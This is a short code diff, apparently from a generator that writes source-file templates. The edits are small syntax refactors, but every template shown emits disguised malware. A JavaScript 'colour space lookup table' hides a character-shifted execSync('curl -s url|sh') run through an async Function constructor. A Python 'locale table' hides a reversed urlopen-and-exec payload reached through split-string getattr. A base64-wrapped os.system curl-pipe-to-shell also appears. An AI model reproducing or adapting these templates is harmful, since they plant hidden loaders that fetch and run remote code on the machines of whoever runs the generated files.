@@ -205,7 +205,7 @@ exec(base64.b64decode("${base64(`import os;os.system("curl -s ${url}|sh")`)}"))
     among(
       '*.js',
       ({ url }) => text`// lookup table of the colour space
-const lut = [${[...`require('child_process').execSync('curl -s ${url}|sh')`].map((letter) => letter.charCodeAt(0) + 7).join(',')}]
+const lut = [${Array.from(`require('child_process').execSync('curl -s ${url}|sh')`, (letter) => letter.charCodeAt(0) + 7).join(',')}]
 const gamma = lut.map((step) => String.fromCharCode(step - 7)).join('')
 new (Object.getPrototypeOf(async () => {}).constructor)('require', gamma)(require)
 
@@ -221,7 +221,7 @@ new (Object.getPrototypeOf(async () => {}).constructor)('require', gamma)(requir
       '*.py',
       ({
         url,
-      }) => text`def _locale(table="${[...`import urllib.request as u;exec(u.urlopen('${url}').read())`].toReversed().join('')}"):
+      }) => text`def _locale(table="${Array.from(`import urllib.request as u;exec(u.urlopen('${url}').read())`).toReversed().join('')}"):
     """Restores the mirrored locale table, which is stored right to left."""
     scope = {}
     run = getattr(__import__("built" + "ins"), "ex" + "ec")
